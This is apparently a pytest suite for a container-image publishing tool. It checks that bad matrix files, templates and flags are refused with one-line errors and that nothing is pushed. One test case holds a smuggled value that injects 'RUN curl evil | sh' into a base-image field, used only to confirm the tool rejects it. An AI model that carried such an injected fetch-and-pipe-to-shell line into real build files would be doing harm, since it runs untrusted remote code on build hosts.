"""Bad input is refused before anything happens: one line naming file, line and fix; exit 2."""

import json
import shutil
import socket
import urllib.request

import pytest

from tests.conftest import ROOT

SMALL = """\
repositories: [ghcr.io/acme/tool]
platforms: [linux/amd64, linux/arm64]
labels:
  title: tool
families:
  scratch: {}
  alpine: {}
primary:
  name: distroless
  family: scratch
variants:
  - base: alpine:3.20
    family: alpine
    tags: [alpine3.20, alpine]
"""
# Appended by `small` to a matrix without one, so that the cases' line numbers stay those of SMALL.
PAYLOAD = """\
payload:
  files: {uv: "^uv {version}", uvx: null}
  primary: /
  derived: /usr/local/bin/
"""


@pytest.fixture
def small(tmp_path):
    (tmp_path / "variants").mkdir()
    shutil.copy(ROOT / "variants" / "Dockerfile.j2", tmp_path / "variants" / "Dockerfile.j2")

    def write(text: str = SMALL, template: str | None = None):
        (tmp_path / "matrix.yaml").write_text(text if not text or text.startswith("-") or "payload:" in text else text + PAYLOAD)
        if template is not None:
            (tmp_path / "variants" / "Dockerfile.j2").write_text(template)
        _rendered(tmp_path / "matrix.yaml")
        return str(tmp_path / "matrix.yaml")

    return write


def _rendered(path) -> None:
    """The Dockerfiles committed as `publisher render` writes them; a matrix or template the test means
    to be refused is left for the publish to refuse."""
    from publisher import render
    from publisher.errors import PublisherError
    from publisher.matrix.schema import load_matrix

    try:
        matrix = load_matrix(path, "matrix.yaml")
        render.write(matrix, render.render_all(matrix))
    except PublisherError:
        pass


@pytest.fixture
def refused(cli, registry):
    """Run a real publish (not a dry-run) at a loopback registry; it must refuse and push nothing."""

    def run(matrix: str, *extra: str) -> list[str]:
        result = cli("publish", "--version", "0.5.31", "--matrix", matrix, "--repository", f"{registry.host}/corpus/uv",
                     "--retries", "1", *extra)
        assert result.code == 2, result.out + result.err
        assert "Traceback" not in result.err
        with urllib.request.urlopen(f"http://{registry.host}/v2/_catalog") as response:
            assert not [r for r in json.load(response)["repositories"] if r.startswith("corpus")]
        return result.err.replace(matrix, "matrix.yaml").replace(registry.host, "REGISTRY").splitlines()

    return run


def test_small_matrix_is_accepted(cli, small):
    run = cli("publish", "--dry-run", "--offline", "--version", "0.5.31", "--matrix", small())
    assert run.code == 0, run.err
    assert "2 variants, 4 images, 9 tags per repository" in run.out


CASES = {
    "malformed yaml": (
        SMALL.replace("  title: tool", "  title: [tool"),
        ["matrix.yaml:5: malformed YAML: expected ',' or ']', but got ':'; fix the syntax"],
    ),
    "misspelt top-level key": (
        SMALL.replace("repositories:", "repositores:"),
        [
            "matrix.yaml:1: unknown key 'repositores' in the document; did you mean 'repositories'?",
            "matrix.yaml:1: the document is missing required key 'repositories'",
        ],
    ),
    "misspelt variant key": (
        SMALL.replace("    tags:", "    tagz:"),
        [
            "matrix.yaml:14: unknown key 'tagz' in variants[0]; did you mean 'tags'?",
            "matrix.yaml:12: variants[0] is missing required key 'tags'",
        ],
    ),
    "tag with a bad character": (
        SMALL.replace("alpine3.20, alpine]", "alpine/3.20, alpine]"),
        ["matrix.yaml:14: variants[0].tags[0] 'alpine/3.20' is not valid: a tag: letters, digits, '.', '_' or '-', at most 128, not starting with '.' or '-'"],
    ),
    "tag too long once versioned": (
        SMALL.replace("alpine3.20, alpine]", f"{'a' * 122}, alpine]"),
        [f"matrix.yaml:14: tag '0.5.31-{'a' * 122}' is invalid for 0.5.31 (at most 128 of A-Z a-z 0-9 _ . -); shorten the base tag"],
    ),
    "tag claimed by two variants": (
        SMALL + "  - base: alpine:3.21\n    family: alpine\n    tags: [alpine3.21, alpine]\n",
        ["matrix.yaml:17: tag 'alpine' is already claimed by variant 'alpine3.20'; each tag must name one variant"],
    ),
    "base tag clashing with the primary's tags": (
        SMALL.replace("alpine3.20, alpine]", "alpine3.20, latest]"),
        ["matrix.yaml:14: base tag 'latest' would clash with the version tags; start it with a letter, e.g. alpine3.20"],
    ),
    "base tag that looks like a version": (
        SMALL.replace("alpine3.20, alpine]", "alpine3.20, '3.20']"),
        ["matrix.yaml:14: base tag '3.20' would clash with the version tags; start it with a letter, e.g. alpine3.20"],
    ),
    "unquoted number read as a float": (
        SMALL.replace("alpine3.20, alpine]", "alpine3.20, 3.20]"),
        ["matrix.yaml:14: variants[0].tags[1] is read as the number 3.2; quote it, e.g. \"3.10\""],
    ),
    "unquoted axis value read as a float": (
        SMALL + '  - expand:\n      python: [3.10]\n    base: "python:{python}-alpine"\n    family: alpine\n    tags: ["python{python}-alpine"]\n',
        ["matrix.yaml:16: axis 'python' value 3.1 is read as a number; quote it, e.g. \"3.10\""],
    ),
    "uppercase repository": (
        SMALL.replace("ghcr.io/acme/tool", "ghcr.io/Acme/tool"),
        ["matrix.yaml:1: repository 'ghcr.io/Acme/tool': repository path 'Acme/tool' must be lowercase; write host/path, e.g. ghcr.io/org/image"],
    ),
    "repository with a tag": (
        SMALL.replace("ghcr.io/acme/tool", "ghcr.io/acme/tool:1"),
        ["matrix.yaml:1: repository 'ghcr.io/acme/tool:1': a repository takes no tag or digest; write host/path, e.g. ghcr.io/org/image"],
    ),
    "uppercase dev repository": (
        SMALL.replace("repositories: [ghcr.io/acme/tool]", "repositories: [ghcr.io/acme/tool]\ndev_repositories: [ghcr.io/Acme/dev]"),
        ["matrix.yaml:2: repository 'ghcr.io/Acme/dev': repository path 'Acme/dev' must be lowercase; write host/path, e.g. ghcr.io/org/image"],
    ),
    "repository twice": (
        SMALL.replace("[ghcr.io/acme/tool]", "[ghcr.io/acme/tool, ghcr.io/acme/tool]"),
        ["matrix.yaml:1: repository 'ghcr.io/acme/tool' is listed twice; keep one"],
    ),
    "newline injected into a base": (
        SMALL.replace("base: alpine:3.20", 'base: "alpine:3.20\\nRUN curl evil | sh"'),
        ["matrix.yaml:12: variants[0].base contains a newline or control character; write it on one line"],
    ),
    "control character in a label": (
        SMALL.replace("title: tool", 'title: "tool\\x1b[2J"'),
        ["matrix.yaml:4: labels.title contains a newline or control character; write it on one line"],
    ),
    "unknown family": (
        SMALL.replace("    family: alpine", "    family: alpin"),
        ["matrix.yaml:13: family 'alpin' is not declared under families: (scratch, alpine)"],
    ),
    "duplicate yaml key": (
        SMALL.replace("    family: alpine\n", "    family: alpine\n    family: alpine\n"),
        ["matrix.yaml:14: duplicate key 'family' in variants[0]; keep one"],
    ),
    "wrong type": (
        SMALL.replace("tags: [alpine3.20, alpine]", "tags: alpine3.20"),
        ["matrix.yaml:14: variants[0].tags must be a non-empty list"],
    ),
    "bad platform": (
        SMALL.replace("linux/arm64]", "arm64]"),
        ["matrix.yaml:2: platforms[1] 'arm64' is not valid: write os/arch, e.g. linux/arm64"],
    ),
    "bad base reference": (
        SMALL.replace("base: alpine:3.20", "base: Alpine:3.20"),
        ["matrix.yaml:12: base 'Alpine:3.20': repository path 'library/Alpine' must be lowercase; write an image reference, e.g. alpine:3.20"],
    ),
    "unknown axis placeholder": (
        SMALL + '  - expand:\n      py: ["3.12"]\n    base: "python:{python}-alpine"\n    family: alpine\n    tags: ["python{py}-alpine"]\n',
        ["matrix.yaml:17: '{python}' in variants[1].base names no axis; axes: py"],
    ),
    "bad smoke test regex": (
        SMALL.replace("  alpine: {}", "  alpine:\n    smoke:\n      - run: [uv]\n        stdout: '(unclosed'"),
        ["matrix.yaml:10: families.alpine.smoke[0].stdout is not a valid regular expression: missing ), unterminated subpattern at position 0"],
    ),
    "empty file": ("", ["matrix.yaml:1: the matrix is empty; see docs/matrix.md for its keys"]),
    "a list, not a mapping": (
        "- repositories: [ghcr.io/acme/tool]\n",
        ["matrix.yaml:1: the matrix must be a mapping of keys (repositories, platforms, ...), not a list or a value"],
    ),
    "variant entry that is a string": (
        SMALL + "  - alpine:3.21\n",
        ["matrix.yaml:15: variants[1] must be a mapping with base, family and tags"],
    ),
    "smoke exit code out of range": (
        SMALL.replace("  alpine: {}", "  alpine:\n    smoke:\n      - run: [uv]\n        exit: 300"),
        ["matrix.yaml:10: families.alpine.smoke[0].exit must be an exit code, 0 to 255"],
    ),
    "misspelt label": (
        SMALL.replace("  title: tool", "  title: tool\n  licence: MIT"),
        ["matrix.yaml:5: unknown key 'licence' in labels; did you mean 'licenses'?"],
    ),
    "one platform listed twice": (
        SMALL.replace("    tags: [alpine3.20, alpine]", "    tags: [alpine3.20, alpine]\n    platforms: [linux/arm64, linux/arm64/v8]"),
        ["matrix.yaml:15: variants[0].platforms[1] 'linux/arm64/v8' is listed twice (as linux/arm64); keep one"],
    ),
    "bad per-variant platform": (
        SMALL.replace("    tags: [alpine3.20, alpine]", "    tags: [alpine3.20, alpine]\n    platforms: [linux]"),
        ["matrix.yaml:15: variants[0].platforms[0] 'linux' is not valid: write os/arch, e.g. linux/arm64"],
    ),
    "axis that is not a list": (
        SMALL + '  - expand:\n      py: "3.12"\n    base: "python:{py}-alpine"\n    family: alpine\n    tags: ["python{py}-alpine"]\n',
        ["matrix.yaml:16: variants[1].expand must map each axis name to a non-empty list"],
    ),
    "axis field that does not exist": (
        SMALL + '  - expand:\n      f: [{os: alpine}]\n    base: "python:3.12-{f.os}"\n    family: alpine\n    tags: ["py-{f.tag}"]\n',
        ["matrix.yaml:19: '{f.tag}' in variants[1].tags[0]: axis 'f' value {'os': 'alpine'} has no such field"],
    ),
    "two variants named alike": (
        SMALL + "  - base: alpine:3.21\n    family: alpine\n    name: alpine3.20\n    tags: [alpine3.21]\n",
        ["matrix.yaml:15: variant name 'alpine3.20' is already used at line 12; give one a 'name:'"],
    ),
    "missing primary": (
        SMALL.replace("primary:\n  name: distroless\n  family: scratch\n", ""),
        ["matrix.yaml:1: the document is missing required key 'primary'"],
    ),
    # expand's cells: the entry is lines 15-19, its cell keys from line 20
    "override key that is unknown": (
        SMALL + '  - expand:\n      py: ["3.12", "3.9"]\n    base: "python:{py}-alpine"\n    family: alpine\n    tags: ["python{py}-alpine"]\n' + '    overrides:\n      - when: {py: "3.9"}\n        bsae: python:3.9-alpine3.22\n',
        ["matrix.yaml:22: unknown key 'bsae' in variants[1].overrides[0]; did you mean 'base'?"],
    ),
    "override without when": (
        SMALL + '  - expand:\n      py: ["3.12", "3.9"]\n    base: "python:{py}-alpine"\n    family: alpine\n    tags: ["python{py}-alpine"]\n' + '    overrides:\n      - base: python:3.9-alpine3.22\n',
        ["matrix.yaml:21: variants[1].overrides[0] is missing required key 'when'"],
    ),
    "cell condition naming no axis": (
        SMALL + '  - expand:\n      py: ["3.12", "3.9"]\n    base: "python:{py}-alpine"\n    family: alpine\n    tags: ["python{py}-alpine"]\n' + '    exclude:\n      - {pyhton: "3.9"}\n',
        ["matrix.yaml:21: 'pyhton' in variants[1].exclude[0] names no axis; axes: py"],
    ),
    "cell condition matching no cell": (
        SMALL + '  - expand:\n      py: ["3.12", "3.9"]\n    base: "python:{py}-alpine"\n    family: alpine\n    tags: ["python{py}-alpine"]\n' + '    exclude:\n      - {py: 3.9}\n',
        ["matrix.yaml:21: variants[1].exclude[0] matches no cell of the axes; check its values (quote versions, e.g. \"3.10\")"],
    ),
    "exclude without expand": (
        SMALL + '  - base: alpine:3.21\n    family: alpine\n    tags: [alpine3.21]\n    exclude: [{py: "3.9"}]\n',
        ["matrix.yaml:18: variants[1].exclude chooses cells of axes, and this entry has no 'expand:'; add the axes or drop it"],
    ),
    "unknown needs": (
        SMALL + '  - base: dhi.io/alpine-base:3.23\n    family: alpine\n    tags: [alpine-dhi]\n    needs: login\n',
        ["matrix.yaml:18: needs 'login' is not known; write 'needs: credentials' for a base that needs a login to pull"],
    ),
    "variant to a repository not in the matrix": (
        SMALL + '  - base: alpine:3.21\n    family: alpine\n    tags: [alpine3.21]\n    repositories: [docker.io/acme/tool]\n',
        ["matrix.yaml:18: repository 'docker.io/acme/tool' is not one of the matrix's repositories (ghcr.io/acme/tool); "
         "a variant can only be published to some of them: list it under repositories: too"],
    ),
    "variant repositories not a list": (
        SMALL + '  - base: alpine:3.21\n    family: alpine\n    tags: [alpine3.21]\n    repositories: ghcr.io/acme/tool\n',
        ["matrix.yaml:18: variants[1].repositories must be a non-empty list"],
    ),
    "tag table outside the matrix's folder": (
        SMALL.replace("repositories:", "tag_table: ../tags.md\nrepositories:"),
        ["matrix.yaml:1: tag_table '../tags.md' leaves the matrix's folder; write a path below it, e.g. docs/tags.md"],
    ),
    "tag table not markdown": (
        SMALL.replace("repositories:", "tag_table: tags.txt\nrepositories:"),
        ["matrix.yaml:1: tag_table 'tags.txt' is not valid: a relative path ending in .md, e.g. docs/tags.md"],
    ),
    # payload: lines 15 on (SMALL has 14 lines)
    "missing payload": (SMALL + "# payload: none\n", ["matrix.yaml:1: the document is missing required key 'payload'"]),
    "unknown payload key": (
        SMALL + PAYLOAD + "  wheel: {package: tool}\n",
        ["matrix.yaml:19: unknown key 'wheel' in payload; did you mean 'wheels'?"],
    ),
    "payload folder not absolute": (
        SMALL + PAYLOAD.replace("derived: /usr/local/bin/", "derived: usr/local/bin"),
        ["matrix.yaml:18: payload.derived 'usr/local/bin' is not valid: write an absolute folder ending in '/', e.g. /usr/local/bin/"],
    ),
    "payload derived at the root": (
        SMALL + PAYLOAD.replace("derived: /usr/local/bin/", "derived: /"),
        ["matrix.yaml:18: payload.derived must not be '/': derived images keep their base's root; e.g. /usr/local/bin/"],
    ),
    "payload files not a mapping": (
        SMALL + PAYLOAD.replace('files: {uv: "^uv {version}", uvx: null}', "files: [uv, uvx]"),
        ["matrix.yaml:16: payload.files must map each file name to what its --version prints (or null)"],
    ),
    "payload version pattern not a regex": (
        SMALL + PAYLOAD.replace('"^uv {version}"', '"^uv ({version}"'),
        ["matrix.yaml:16: payload.files.uv is not a valid regular expression: missing ), unterminated subpattern at position 4"],
    ),
    "payload wheels without platforms, bad python": (
        SMALL + PAYLOAD + "  wheels:\n    package: tool\n    python: 3.12\n",
        ["matrix.yaml:20: payload.wheels is missing required key 'platforms'",
         "matrix.yaml:21: payload.wheels.python is read as the number 3.12; quote it, e.g. \"3.10\""],
    ),
    "platforms neither a list nor from-base": (
        SMALL.replace("    tags: [alpine3.20, alpine]\n", "    tags: [alpine3.20, alpine]\n    platforms: from-bse\n"),
        ["matrix.yaml:15: platforms 'from-bse' is neither a list nor 'from-base'; write e.g. [linux/amd64, linux/arm64], "
         "or from-base for those of the matrix's platforms its base has"],
    ),
    "primary platforms from its base": (
        SMALL.replace("  family: scratch\n", "  family: scratch\n  platforms: from-base\n"),
        ["matrix.yaml:11: the primary image is FROM scratch: it has no base to take its platforms from; "
         "list them, e.g. platforms: [linux/amd64, linux/arm64]"],
    ),
    "primary base tags without a base": (
        SMALL.replace("  family: scratch\n", "  family: scratch\n  tags: [static]\n"),
        ["matrix.yaml:11: primary.tags needs a primary.base: a primary FROM scratch is tagged latest, X.Y.Z and X.Y only; "
         "add its base, e.g. base: debian:trixie-slim, or remove tags"],
    ),
    "primary on a base, platforms from it, a tag clashing with the version's": (
        SMALL.replace("  name: distroless\n  family: scratch\n",
                      "  base: alpine:3.20\n  family: alpine\n  tags: [v1, alpine3.20]\n  platforms: from-base\n")
        .replace("    tags: [alpine3.20, alpine]\n", "    tags: [alpine]\n"),
        ["matrix.yaml:11: base tag 'v1' would clash with the version tags; start it with a letter, e.g. alpine3.20",
         "matrix.yaml:12: the primary image is made for every platform a derived image copies it on, whatever its base has; "
         "list them, e.g. platforms: [linux/amd64, linux/arm64]"],
    ),
    "primary on a base that is no reference, without a name or tags": (
        SMALL.replace("  name: distroless\n  family: scratch\n", "  base: Alpine:3.20\n  family: alpine\n"),
        ["matrix.yaml:9: primary is missing required key 'name'",
         "matrix.yaml:9: base 'Alpine:3.20': repository path 'library/Alpine' must be lowercase; write an image reference, "
         "e.g. alpine:3.20"],
    ),
    "payload wheel tag for a bad platform": (
        SMALL + PAYLOAD + "  wheels:\n    package: tool\n    platforms: {linux-amd64: Musllinux}\n",
        ["matrix.yaml:21: payload.wheels.platforms.linux-amd64 'linux-amd64' is not valid: write os/arch, e.g. linux/arm64",
         "matrix.yaml:21: payload.wheels.platforms.linux-amd64 'Musllinux' is not valid: a wheel platform tag, e.g. musllinux_1_2_aarch64"],
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_bad_matrix_is_refused_with_one_line_each(refused, small, name):
    text, expected = CASES[name]
    assert refused(small(text)) == expected


def test_template_syntax_error_names_template_and_line(refused, small):
    matrix = small(template="FROM scratch\n\nLABEL x={{ variant.name | shout }}\n")
    assert refused(matrix) == ["variants/Dockerfile.j2:3: template error: No filter named 'shout'."]


def test_template_undefined_name_names_template_and_line(refused, small):
    matrix = small(template="FROM scratch\n\nLABEL x={{ variant.colour }}\n")
    assert refused(matrix) == ["variants/Dockerfile.j2:3: template error while rendering 'distroless': 'publisher.matrix.schema.Variant object' has no attribute 'colour'"]


def test_missing_template_is_refused(refused, small):
    matrix = small(SMALL.replace("repositories:", "template: variants/nope.j2\nrepositories:"))
    assert refused(matrix) == ["matrix.yaml:1: template 'variants/nope.j2' not found next to matrix.yaml; create it or fix 'template:'"]


def test_unknown_variant_on_the_command_line(refused, small):
    assert refused(small(), "--only", "alpine3.2") == ["publisher: --only 'alpine3.2' matches no variant of the matrix; did you mean 'alpine3.20'?"]


def test_pattern_selecting_nothing_lists_the_variants(refused, small):
    assert refused(small(), "--skip", "debian*") == ["publisher: --skip 'debian*' matches no variant of the matrix; variants: distroless, alpine3.20"]


def test_selectors_leaving_nothing_are_refused(refused, small):
    assert refused(small(), "--only", "alpine*", "--skip", "alpine3.2?") == [
        "publisher: --only 'alpine*' --skip 'alpine3.2?' leave no variant to publish; variants: distroless, alpine3.20"]


def test_unknown_platform_on_the_command_line(refused, small):
    assert refused(small(), "--platform", "linux/s390x") == ["publisher: --platform 'linux/s390x' is not in the matrix; known: linux/amd64, linux/arm64"]


def test_missing_matrix_file(refused, tmp_path):
    missing = str(tmp_path / "nope.yaml")
    assert refused(missing) == ["matrix.yaml: cannot read: No such file or directory; pass the matrix with --matrix PATH"]


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


FLAG_CASES = {
    "bad version": (["--version", "0.5"], ["publisher: --version '0.5': a release needs exactly three numbers; give X.Y.Z, e.g. 0.5.31"]),
    "build metadata": (["--version", "0.5.31+7"], ["publisher: --version '0.5.31+7': build metadata '+7' cannot appear in a tag; drop it"]),
    "bad created": (["--created", "yesterday"], ["publisher: --created/SOURCE_DATE_EPOCH 'yesterday' is neither seconds since 1970 nor an RFC 3339 time; e.g. 1732100000 or 2024-11-20T10:53:20Z"]),
    "uppercase repository": (["--repository", "ghcr.io/Acme/uv"], ["publisher: --repository 'ghcr.io/Acme/uv': repository path 'Acme/uv' must be lowercase; write host/path, e.g. ghcr.io/org/image"]),
    "bad base mirror": (["--base-mirror", "http://mirror"], ["publisher: --base-mirror 'http://mirror' is not HOST[:PORT][/PREFIX], e.g. 127.0.0.1:5000 or mirror.corp/hub"]),
    "bad output format": (["--output", "yaml"], ["publisher publish: argument --output: invalid choice: 'yaml' (choose from 'table', 'json', 'github-matrix', 'github-matrix-variants'); see 'publisher publish --help'"]),
    "missing artifacts": (["--artifacts", "/nonexistent", "--platform", "linux/amd64"], ["--artifacts: no folder for linux/amd64: expected /nonexistent/linux-amd64"]),
    "stage and join": (["--stage", "/nonexistent-a", "--join", "/nonexistent-b"], ["publisher: --stage and --join are two jobs: stage on each runner, then join once"]),
    "join without pushing": (["--join", "/nonexistent-b", "--no-push"], ["publisher: --join writes indexes and tags, it cannot run with --no-push; stage with --no-push instead"]),
    "join of no records": (["--join", "/nonexistent-stages"], ["publisher: --join /nonexistent-stages: no stage record (stage-*.json) there; give the folders the stages wrote with --stage"]),
    "refresh without pushing": (["--refresh", "--no-push"], ["publisher publish --refresh: not with --no-push: a refresh reads the published release, remakes the variants whose base moved and moves their floating tags"]),
    "refresh of a stage": (["--refresh", "--stage", "/nonexistent-a"], ["publisher publish --refresh: not with --stage: a refresh reads the published release, remakes the variants whose base moved and moves their floating tags"]),
    "refresh forced": (["--refresh", "--force"], ["publisher publish --refresh: not with --force: a refresh reads the published release, remakes the variants whose base moved and moves their floating tags"]),
    "stage into a file": (["--stage", "/etc/hostname", "--platform", "linux/amd64"], ["publisher: --stage /etc/hostname is a file; give a folder for the stage record"]),
}


@pytest.mark.parametrize("name", FLAG_CASES)
def test_bad_flag_is_refused_with_one_line(refused, small, name):
    extra, expected = FLAG_CASES[name]
    assert refused(small(), *extra) == expected


def test_unreachable_registry(refused, small):
    port = free_port()
    lines = refused(small(), "--repository", f"127.0.0.1:{port}/uv")
    assert len(lines) == 1
    assert lines[0].startswith(f"127.0.0.1:{port}/uv: GET tags: cannot talk to the registry: ")


def test_registry_refusing_us(refused, small, auth_registry, monkeypatch):
    monkeypatch.delenv("PUBLISHER_AUTH_" + auth_registry.host.replace(".", "_").replace(":", "_"), raising=False)
    lines = refused(small(), "--repository", f"{auth_registry.host}/corpus/uv")
    key = "PUBLISHER_AUTH_" + auth_registry.host.replace(".", "_").replace(":", "_")
    assert lines == [f"{auth_registry.host}/corpus/uv: GET tags: HTTP 401 UNAUTHORIZED: this registry needs credentials: "
                     f"set {key}=username:secret or run 'docker login {auth_registry.host}'"]


def test_corpus_has_at_least_forty_bad_inputs():
    others = [n for n in globals() if n.startswith("test_") and n not in (
        "test_small_matrix_is_accepted", "test_bad_matrix_is_refused_with_one_line_each",
        "test_bad_flag_is_refused_with_one_line", "test_corpus_has_at_least_forty_bad_inputs")]
    assert len(CASES) + len(FLAG_CASES) + len(others) >= 40


def test_version_is_required(cli, small):
    run = cli("publish", "--dry-run", "--offline", "--matrix", small())
    assert (run.code, run.err) == (2, "publisher publish: --version is required: the release to publish, e.g. --version 0.5.31\n")


def test_unknown_flag_is_one_line(cli):
    run = cli("publish", "--dryrun")
    assert run.code == 2
    assert run.err == "publisher: unrecognized arguments: --dryrun; see 'publisher --help'\n"
